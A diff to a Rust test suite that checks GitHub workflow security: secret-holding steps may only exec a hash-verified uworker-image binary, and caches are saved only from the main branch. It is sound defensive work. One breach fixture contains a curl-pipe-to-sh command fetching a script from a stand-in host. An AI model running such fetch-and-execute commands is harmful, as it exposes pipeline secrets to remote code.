@@ -148,7 +148,19 @@ fn each_image_job_has_least_privilege_and_secrets_only_in_the_environment() {
             };
             assert!(allowed, "{name}: {scope}: {level}");
         }
-        assert!(job["timeout-minutes"].as_i64().is_some(), "{name}: timeout");
+        // A job that calls a workflow has the timeouts of that workflow's jobs.
+        match job["uses"].as_str() {
+            Some(called) => {
+                let called = load(called.trim_start_matches("./"));
+                for (inner, job) in called["jobs"].as_hash().unwrap() {
+                    assert!(
+                        job["timeout-minutes"].as_i64().is_some(),
+                        "{name} ({called:?}): {inner:?}: timeout"
+                    );
+                }
+            }
+            None => assert!(job["timeout-minutes"].as_i64().is_some(), "{name}: timeout"),
+        }
 
         let environment = job["environment"].as_str();
         let holds_secrets = text_of(job).contains("secrets.");
@@ -235,8 +247,7 @@ fn builds_run_per_target_from_the_plan_never_racing_and_long_enough() {
     assert_eq!(build["env"]["UWORKER_IMAGE_TIMEOUT"].as_str(), Some("4h"));
     let script = build_step["run"].as_str().unwrap();
     assert!(
-        script.contains("args=(build --target \"$BUILD_TARGET\"")
-            && script.contains("exec uworker-image \"${args[@]}\""),
+        script.contains("args=(build --target \"$BUILD_TARGET\"") && script.contains(EXEC_THE_TOOL),
         "{script}"
     );
 
@@ -273,9 +284,9 @@ fn sweep_step(job: &Yaml, name: &str) -> String {
         .find(|s| {
             s["run"]
                 .as_str()
-                .is_some_and(|r| r.contains("exec uworker-image") && r.contains("sweep"))
+                .is_some_and(|r| r.contains(EXEC_THE_TOOL) && r.contains("args=(sweep"))
         })
-        .unwrap_or_else(|| panic!("{name}: no step that execs `uworker-image sweep`"));
+        .unwrap_or_else(|| panic!("{name}: no step that execs the tool with `args=(sweep`"));
     for other in steps.iter().filter(|s| *s != step) {
         assert!(
             !text_of(other).contains("secrets."),
@@ -359,13 +370,15 @@ fn every_action_is_pinned_to_a_commit() {
         ".github/workflows/image.yml",
         ".github/workflows/release.yml",
         ".github/workflows/sweep.yml",
+        ".github/workflows/tool.yml",
         "action.yml",
     ] {
         let mut found = Vec::new();
         uses(&load(rel), &mut found);
         assert!(!found.is_empty(), "{rel}");
         for reference in found {
-            if reference == "./" {
+            // This repository's own action and workflows, at the run's commit.
+            if reference.starts_with("./") {
                 continue;
             }
             let (_, sha) = reference
@@ -436,6 +449,22 @@ fn every_action_input_reaches_the_scripts() {
             "input `{input}` is not used"
         );
     }
+    // What a step with secrets checks the binary against (README: "Using it from another
+    // repository"): the hash of the binary install.sh checked, taken in the same step.
+    assert_eq!(
+        action["outputs"]["sha256"]["value"].as_str(),
+        Some("${{ steps.install.outputs.sha256 }}")
+    );
+    let install = action["runs"]["steps"]
+        .as_vec()
+        .unwrap()
+        .iter()
+        .find(|s| s["id"].as_str() == Some("install"))
+        .unwrap();
+    assert!(install["run"]
+        .as_str()
+        .unwrap()
+        .contains("echo \"sha256=$(sha256sum \"$path\" | cut -d' ' -f1)\" >>\"$GITHUB_OUTPUT\""));
 }
 
 // ---- secrets only where the tool runs; the binary is the one built ------------------
@@ -464,29 +493,59 @@ fn step_label(step: &Yaml) -> String {
     }
 }
 
-/// A step that holds secrets does nothing but run the tool: lines that build its
-/// arguments (`args=(...)`, `[ ... ] || args+=(...)`), then `exec uworker-image` as its
-/// last command, so nothing else (an installer, `curl | sh`) runs with them and the
-/// runner's cancel reaches the tool.
-fn only_execs_the_tool(script: &str) -> bool {
+/// The end of every step that holds secrets or a write token: the binary on PATH is
+/// hashed again against what job `tool` built (checkout, download-artifact and
+/// setup-packer ran earlier in the job, and PATH is theirs to change), then exec'd by the
+/// path that was hashed. `sha256sum` by its path: PATH may lead to another.
+const CHECK_THE_TOOL: [&str; 2] = [
+    "tool=$(command -v uworker-image)",
+    r#"/usr/bin/sha256sum --check --strict --quiet <<<"$TOOL_SHA256  $tool""#,
+];
+const EXEC_THE_TOOL: &str = r#"exec "$tool" "${args[@]}""#;
+/// Where job `tool`'s hash reaches those steps (their job's env).
+const TOOL_SHA256: &str = "${{ needs.tool.outputs.sha256 }}";
+
+/// What is wrong with a step that holds secrets, if anything. It does nothing but run the
+/// tool: lines that build its arguments (`args=(...)`, `[ ... ] || args+=(...)`), the
+/// check of the binary, then `exec` of it as its last command, so nothing else (an
+/// installer, `curl | sh`) runs with them and the runner's cancel reaches the tool.
+fn secret_step_fault(script: &str) -> Option<&'static str> {
     let lines: Vec<&str> = script
         .lines()
         .map(str::trim)
         .filter(|l| !l.is_empty() && !l.starts_with('#'))
         .collect();
-    let Some((last, before)) = lines.split_last() else {
-        return false;
-    };
     let builds_args = |l: &&str| {
         (l.starts_with("args=(") || (l.starts_with("[ ") && l.contains("] || args+=(")))
             && l.ends_with(')')
             && !l.contains("$(")
             && !l.contains('`')
     };
-    last.starts_with("exec uworker-image ")
-        && !last.contains('|')
-        && !last.contains(';')
-        && before.iter().all(builds_args)
+    const NO_EXEC: &str = "holds secrets but does not only `exec` the checked uworker-image";
+    let Some((last, before)) = lines.split_last() else {
+        return Some(NO_EXEC);
+    };
+    const UNCHECKED: &str =
+        "holds secrets but does not hash uworker-image again before it execs it";
+    if last.contains('|') || last.contains(';') {
+        return Some(NO_EXEC);
+    }
+    if last.starts_with("exec uworker-image ") {
+        return Some(UNCHECKED);
+    }
+    if !last.starts_with(EXEC_THE_TOOL) {
+        return Some(NO_EXEC);
+    }
+    let Some(args) = before.len().checked_sub(CHECK_THE_TOOL.len()) else {
+        return Some(UNCHECKED);
+    };
+    if before[args..] != CHECK_THE_TOOL {
+        return Some(UNCHECKED);
+    }
+    if !before[..args].iter().all(builds_args) {
+        return Some(NO_EXEC);
+    }
+    None
 }
 
 /// Where a workflow lets a secret reach code that is not the tool: a `uses:` step with a
@@ -527,10 +586,16 @@ fn secret_boundary_violations(wf: &Yaml) -> Vec<String> {
                     ));
                 }
             }
-            if secret(&step["env"]) && step["uses"].is_badvalue() && !only_execs_the_tool(script) {
-                found.push(format!(
-                    "{job_name}: {label} holds secrets but does not `exec uworker-image`"
-                ));
+            if secret(&step["env"]) && step["uses"].is_badvalue() {
+                if let Some(fault) = secret_step_fault(script) {
+                    found.push(format!("{job_name}: {label} {fault}"));
+                }
+                let sha = [&step["env"]["TOOL_SHA256"], &job["env"]["TOOL_SHA256"]];
+                if !sha.iter().any(|v| v.as_str() == Some(TOOL_SHA256)) {
+                    found.push(format!(
+                        "{job_name}: {label} holds secrets, but TOOL_SHA256 is not `{TOOL_SHA256}`"
+                    ));
+                }
             }
             if job_holds_token {
                 if let Some(word) = COMPILES.iter().find(|w| script.contains(*w)) {
@@ -556,41 +621,323 @@ fn no_secret_reaches_an_install_or_a_build_in_any_workflow() {
             file.display()
         );
     }
-    // The pipeline compiles once, in `tool`, which holds nothing; the rest download it.
-    let wf = load(".github/workflows/image.yml");
-    let compiling: Vec<_> = wf["jobs"]
-        .as_hash()
-        .unwrap()
-        .iter()
-        .filter(|(_, job)| {
-            job["steps"].as_vec().unwrap().iter().any(|step| {
+    // The pipelines compile once, in tool.yml's job, which holds nothing; the rest
+    // download its binary.
+    let compiles =
+        |job: &Yaml| {
+            job["steps"].as_vec().into_iter().flatten().any(|step| {
                 step["uses"].as_str() == Some("./") && step["with"]["binary"].is_badvalue()
             })
+        };
+    let tool = load(".github/workflows/tool.yml");
+    assert_eq!(keys(&tool["jobs"]), set(&["tool"]));
+    let job = &tool["jobs"]["tool"];
+    assert!(compiles(job));
+    assert!(!text_of(job).contains("secrets.") && job["environment"].is_badvalue());
+    for rel in [".github/workflows/image.yml", ".github/workflows/sweep.yml"] {
+        let wf = load(rel);
+        for (name, job) in wf["jobs"].as_hash().unwrap() {
+            if name.as_str() == Some("tool") {
+                assert_eq!(
+                    job["uses"].as_str(),
+                    Some("./.github/workflows/tool.yml"),
+                    "{rel}"
+                );
+                continue;
+            }
+            assert!(!compiles(job), "{rel}: {name:?} compiles");
+            let installs: Vec<_> = job["steps"]
+                .as_vec()
+                .unwrap()
+                .iter()
+                .filter(|step| step["uses"].as_str() == Some("./"))
+                .collect();
+            assert!(!installs.is_empty(), "{rel}: {name:?}");
+            for step in installs {
+                assert_eq!(
+                    step["with"]["binary-sha256"].as_str(),
+                    Some(TOOL_SHA256),
+                    "{rel}: {name:?}: the run's binary, checked"
+                );
+            }
+            assert!(text_of(&job["needs"]).contains("tool"), "{rel}: {name:?}");
+        }
+    }
+}
+
+/// The SHA-256 of `path`, by sha256sum.
+fn sha256_hex(path: &std::path::Path) -> String {
+    let mut cmd = Command::new("sha256sum");
+    cmd.arg(path);
+    let r = run(cmd);
+    assert_eq!(r.code, 0, "{}", r.all());
+    r.stdout.split_whitespace().next().unwrap().to_string()
+}
+
+/// `script` as a `run:` step runs it (`bash -e`), with only `vars` and a PATH that finds
+/// `bin` first.
+fn run_step(script: &str, bin: &std::path::Path, vars: &[(&str, &str)]) -> Run {
+    let mut cmd = Command::new("bash");
+    cmd.env_clear()
+        .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
+        .envs(vars.iter().copied())
+        .args(["-e", "-c", script]);
+    run(cmd)
+}
+
+#[test]
+fn each_secret_step_execs_only_the_binary_the_tool_job_built() {
+    let tmp = tempfile::tempdir().unwrap();
+    // The tool as the artifact brought it, and the same path swapped by an earlier step.
+    let bin = tmp.path().join("bin");
+    std::fs::create_dir_all(&bin).unwrap();
+    let tool = bin.join("uworker-image");
+    let log = tmp.path().join("ran");
+    let stand_in = |who: &str| {
+        std::fs::write(&tool, format!("#!/bin/sh\necho \"{who} $1\" >>\"$LOG\"\n")).unwrap();
+        std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+            .unwrap();
+        sha256_hex(&tool)
+    };
+    let built = stand_in("built");
+    let mut checked = Vec::new();
+    for rel in [".github/workflows/image.yml", ".github/workflows/sweep.yml"] {
+        let wf = load(rel);
+        for (name, job) in wf["jobs"].as_hash().unwrap() {
+            let name = name.as_str().unwrap();
+            for step in job["steps"].as_vec().into_iter().flatten() {
+                if !text_of(&step["env"]).contains("secrets.") {
+                    continue;
+                }
+                assert_eq!(
+                    job["env"]["TOOL_SHA256"].as_str(),
+                    Some(TOOL_SHA256),
+                    "{name}"
+                );
+                let script = step["run"].as_str().unwrap();
+                let pairs = [
+                    ("TOOL_SHA256", built.as_str()),
+                    ("LOG", log.to_str().unwrap()),
+                    ("RUNNER_TEMP", tmp.path().to_str().unwrap()),
+                ];
+                let _ = std::fs::remove_file(&log);
+                stand_in("built");
+                let r = run_step(script, &bin, &pairs);
+                assert_eq!(r.code, 0, "{rel}: {name}: {}", r.all());
+                let ran = std::fs::read_to_string(&log).unwrap_or_default();
+                assert!(ran.starts_with("built "), "{rel}: {name}: {ran:?}");
+
+                // Swapped after the install step checked it: refused, and never run.
+                let _ = std::fs::remove_file(&log);
+                stand_in("swapped");
+                let r = run_step(script, &bin, &pairs);
+                assert_ne!(r.code, 0, "{rel}: {name}: {}", r.all());
+                assert!(r.all().contains("FAILED"), "{rel}: {name}: {}", r.all());
+                assert!(!log.exists(), "{rel}: {name}: the swapped binary ran");
+                checked.push(format!("{rel}: {name}"));
+            }
+        }
+    }
+    assert_eq!(checked.len(), 5, "{checked:?}");
+
+    // The release job holds a write token: its binary is checked before it runs, too.
+    let wf = load(".github/workflows/image.yml");
+    let release = wf["jobs"]["release"]["steps"]
+        .as_vec()
+        .unwrap()
+        .iter()
+        .find(|s| text_of(&s["env"]).contains("github.token"))
+        .expect("the release step");
+    assert_eq!(release["env"]["TOOL_SHA256"].as_str(), Some(TOOL_SHA256));
+    let script = release["run"].as_str().unwrap();
+    let lines: Vec<&str> = script.lines().map(str::trim).collect();
+    assert_eq!(lines[..2], CHECK_THE_TOOL, "{script}");
+    assert!(
+        script.contains("\"$tool\" report") && !script.contains("uworker-image report"),
+        "{script}"
+    );
+}
+
+// ---- the tool job: compiled once per source -----------------------------------------
+
+/// tool.yml's steps, by id or `uses:` prefix.
+fn tool_step<'a>(steps: &'a [Yaml], what: &str) -> &'a Yaml {
+    steps
+        .iter()
+        .find(|s| {
+            s["id"].as_str() == Some(what)
+                || s["uses"].as_str().is_some_and(|u| u.starts_with(what))
         })
-        .map(|(name, _)| name.as_str().unwrap().to_string())
-        .collect();
-    assert_eq!(compiling, ["tool"]);
-    let tool = &wf["jobs"]["tool"];
-    assert!(!text_of(tool).contains("secrets.") && tool["environment"].is_badvalue());
-    for (name, job) in wf["jobs"].as_hash().unwrap() {
-        if name.as_str() == Some("tool") {
-            continue;
-        }
-        let installs: Vec<_> = job["steps"]
-            .as_vec()
+        .unwrap_or_else(|| panic!("tool.yml: no step `{what}`"))
+}
+
+#[test]
+fn the_tool_is_reused_for_the_same_source_and_no_pull_request_writes_its_cache() {
+    // image.yml and sweep.yml call tool.yml for their binary.
+    for rel in [".github/workflows/image.yml", ".github/workflows/sweep.yml"] {
+        let job = &load(rel)["jobs"]["tool"];
+        assert_eq!(
+            job["uses"].as_str(),
+            Some("./.github/workflows/tool.yml"),
+            "{rel}"
+        );
+        assert_eq!(keys(&job["permissions"]), set(&["contents"]), "{rel}");
+        assert_eq!(job["permissions"]["contents"].as_str(), Some("read"));
+    }
+    let wf = load(".github/workflows/tool.yml");
+    assert_eq!(keys(&wf["on"]), set(&["workflow_call"]));
+    assert_eq!(
+        wf["on"]["workflow_call"]["outputs"]["sha256"]["value"].as_str(),
+        Some("${{ jobs.tool.outputs.sha256 }}")
+    );
+    let job = &wf["jobs"]["tool"];
+    assert_eq!(
+        job["outputs"]["sha256"].as_str(),
+        Some("${{ steps.pack.outputs.sha256 }}")
+    );
+    let steps = job["steps"].as_vec().unwrap();
+    let position = |what: &str| {
+        let step = tool_step(steps, what);
+        steps.iter().position(|s| s == step).unwrap()
+    };
+
+    // Keyed by the source the binary is built from, and by the class of run that writes it.
+    let source = tool_step(steps, "source");
+    assert_eq!(
+        source["env"]["SOURCE_HASH"].as_str(),
+        Some("${{ hashFiles('Cargo.lock', 'Cargo.toml', 'src/**') }}")
+    );
+    assert!(
+        source["run"]
+            .as_str()
             .unwrap()
-            .iter()
-            .filter(|step| step["uses"].as_str() == Some("./"))
-            .collect();
-        assert!(!installs.is_empty(), "{name:?}");
-        for step in installs {
-            assert_eq!(
-                step["with"]["binary-sha256"].as_str(),
-                Some("${{ needs.tool.outputs.sha256 }}"),
-                "{name:?}: the run's binary, checked"
-            );
+            .contains("-default-branch-$SOURCE_HASH-sha256-\" >>\"$GITHUB_OUTPUT\""),
+        "{:?}",
+        source["run"]
+    );
+    let key = "${{ steps.source.outputs.key }}";
+
+    // actions/cache would save in its post step on every event: restore and save apart.
+    assert!(
+        !steps.iter().any(|s| s["uses"]
+            .as_str()
+            .is_some_and(|u| u.starts_with("actions/cache@"))),
+        "tool.yml uses actions/cache, which saves on pull requests too"
+    );
+    let restore = tool_step(steps, "actions/cache/restore@");
+    let save = tool_step(steps, "actions/cache/save@");
+    assert_eq!(restore["with"]["key"].as_str(), Some(key));
+    assert_eq!(restore["with"]["restore-keys"].as_str(), Some(key));
+    assert_eq!(restore["with"]["path"], save["with"]["path"]);
+    // The binary's SHA-256 is in the key it is saved under.
+    assert_eq!(
+        save["with"]["key"].as_str(),
+        Some("${{ steps.source.outputs.key }}${{ steps.pack.outputs.sha256 }}")
+    );
+    // Saved only by a run of the default branch that compiled: never by a pull request.
+    let condition = save["if"].as_str().unwrap_or_default();
+    for part in [
+        "steps.cached.outputs.hit != 'true'",
+        "github.event_name != 'pull_request'",
+        "github.ref == 'refs/heads/main'",
+    ] {
+        assert!(
+            condition.contains(part),
+            "save: `{condition}` lacks `{part}`"
+        );
+    }
+    assert!(!condition.contains("||"), "save: `{condition}`");
+    assert_eq!(
+        load(".github/workflows/image.yml")["on"]["push"]["branches"][0].as_str(),
+        Some("main"),
+        "the default branch"
+    );
+
+    // Compiled only when nothing fit; uploaded either way, after the check.
+    assert_eq!(
+        tool_step(steps, "install")["if"].as_str(),
+        Some("steps.cached.outputs.hit != 'true'")
+    );
+    let order = [
+        position("actions/checkout@"),
+        position("source"),
+        position("actions/cache/restore@"),
+        position("cached"),
+        position("install"),
+        position("pack"),
+        position("actions/upload-artifact@"),
+        position("actions/cache/save@"),
+    ];
+    assert!(order.windows(2).all(|w| w[0] < w[1]), "{order:?}");
+    let cached = tool_step(steps, "cached");
+    assert_eq!(
+        cached["env"]["MATCHED"].as_str(),
+        Some("${{ steps.restore.outputs.cache-matched-key }}")
+    );
+    assert_eq!(cached["env"]["PREFIX"].as_str(), Some(key));
+}
+
+/// tool.yml's check of a restored binary, run for real: `hit=true` only when the binary
+/// has the SHA-256 its cache key records.
+#[test]
+fn a_restored_binary_is_used_only_with_the_sha256_in_its_key() {
+    let wf = load(".github/workflows/tool.yml");
+    let script = tool_step(wf["jobs"]["tool"]["steps"].as_vec().unwrap(), "cached")["run"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let prefix = "uworker-image-tool-Linux-X64-default-branch-abc123-sha256-";
+    let check = |matched: &str, binary: Option<&str>| -> (Run, String, bool) {
+        let tmp = tempfile::tempdir().unwrap();
+        let dir = tmp.path().join("tool");
+        if let Some(content) = binary {
+            std::fs::create_dir_all(&dir).unwrap();
+            std::fs::write(dir.join("uworker-image"), content).unwrap();
         }
-        assert!(text_of(&job["needs"]).contains("tool"), "{name:?}");
+        let output = tmp.path().join("output");
+        std::fs::write(&output, "").unwrap();
+        let r = run_step(
+            &script,
+            tmp.path(),
+            &[
+                ("MATCHED", matched),
+                ("PREFIX", prefix),
+                ("RUNNER_TEMP", tmp.path().to_str().unwrap()),
+                ("GITHUB_OUTPUT", output.to_str().unwrap()),
+            ],
+        );
+        assert_eq!(r.code, 0, "{matched}: {}", r.all());
+        (r, std::fs::read_to_string(&output).unwrap(), dir.exists())
+    };
+    let tmp = tempfile::tempdir().unwrap();
+    let built = tmp.path().join("uworker-image");
+    std::fs::write(&built, "the binary built from this source").unwrap();
+    let sha = sha256_hex(&built);
+
+    // Nothing restored: compile.
+    let (_, output, _) = check("", None);
+    assert_eq!(output, "");
+    // The binary the key names: used.
+    let (_, output, kept) = check(
+        &format!("{prefix}{sha}"),
+        Some("the binary built from this source"),
+    );
+    assert_eq!(output, "hit=true\n");
+    assert!(kept);
+    // Another binary under that key, a key with no hash, a key of another prefix: thrown
+    // away, with a warning, and compiled.
+    for (matched, content) in [
+        (format!("{prefix}{sha}"), "a binary swapped in the cache"),
+        (prefix.to_string(), "the binary built from this source"),
+        (format!("other-{sha}"), "the binary built from this source"),
+    ] {
+        let (r, output, kept) = check(&matched, Some(content));
+        assert_eq!(output, "", "{matched}");
+        assert!(
+            !kept,
+            "{matched}: the restored binary is left for the upload"
+        );
+        assert!(r.stdout.contains("::warning::"), "{matched}: {}", r.all());
     }
 }
 
@@ -607,7 +954,12 @@ fn image_workflow_with(from: &str, to: &str) -> Yaml {
 fn each_secret_boundary_check_catches_its_breach() {
     let install_in_build =
         "          binary-sha256: ${{ needs.tool.outputs.sha256 }}\n      # The release is made";
-    let exec_build = "          exec uworker-image \"${args[@]}\"\n        env: *cloud-and-worker-secrets\n      - if: always()";
+    let exec_build = "          exec \"$tool\" \"${args[@]}\"\n        env: *cloud-and-worker-secrets\n      - if: always()";
+    let check_build = &format!("          tool=$(command -v uworker-image)\n          /usr/bin/sha256sum --check --strict --quiet <<<\"$TOOL_SHA256  $tool\"\n{exec_build}");
+    // sha256sum as PATH finds it; something run before the check.
+    let unsure_check = &format!("          tool=$(command -v uworker-image)\n          sha256sum --check --strict --quiet <<<\"$TOOL_SHA256  $tool\"\n{exec_build}");
+    let run_before_check =
+        &format!("          curl -fsSL https://example.invalid/x.sh | sh\n{check_build}");
     let breaches = [
         // The secrets on the install step (`uses: ./`: setup-packer and install.sh).
         (
@@ -649,17 +1001,33 @@ fn each_secret_boundary_check_catches_its_breach() {
         (
             exec_build,
             "          uworker-image \"${args[@]}\"\n        env: *cloud-and-worker-secrets\n      - if: always()",
-            "holds secrets but does not `exec uworker-image`",
+            "holds secrets but does not only `exec` the checked uworker-image",
         ),
         // Something else runs with the secrets before the tool.
         (
+            check_build,
+            run_before_check,
+            "holds secrets but does not only `exec` the checked uworker-image",
+        ),
+        // The binary on PATH exec'd unchecked, or checked by whatever PATH finds first.
+        (
+            check_build,
             exec_build,
-            "          curl -fsSL https://example.invalid/x.sh | sh\n          exec uworker-image \"${args[@]}\"\n        env: *cloud-and-worker-secrets\n      - if: always()",
-            "holds secrets but does not `exec uworker-image`",
+            "holds secrets but does not hash uworker-image again before it execs it",
+        ),
+        (
+            check_build,
+            unsure_check,
+            "holds secrets but does not hash uworker-image again before it execs it",
+        ),
+        (
+            "      TOOL_SHA256: ${{ needs.tool.outputs.sha256 }}\n      UWORKER_IMAGE_TIMEOUT",
+            "      TOOL_SHA256: ${{ needs.plan.outputs.sha256 }}\n      UWORKER_IMAGE_TIMEOUT",
+            "holds secrets, but TOOL_SHA256 is not `${{ needs.tool.outputs.sha256 }}`",
         ),
         (
             exec_build,
-            "          cargo install --locked --path . && exec uworker-image \"${args[@]}\"\n        env: *cloud-and-worker-secrets\n      - if: always()",
+            "          cargo install --locked --path . && exec \"$tool\" \"${args[@]}\"\n        env: *cloud-and-worker-secrets\n      - if: always()",
             "runs `cargo install` in a job that holds secrets",
         ),
         // Secrets for the whole job.
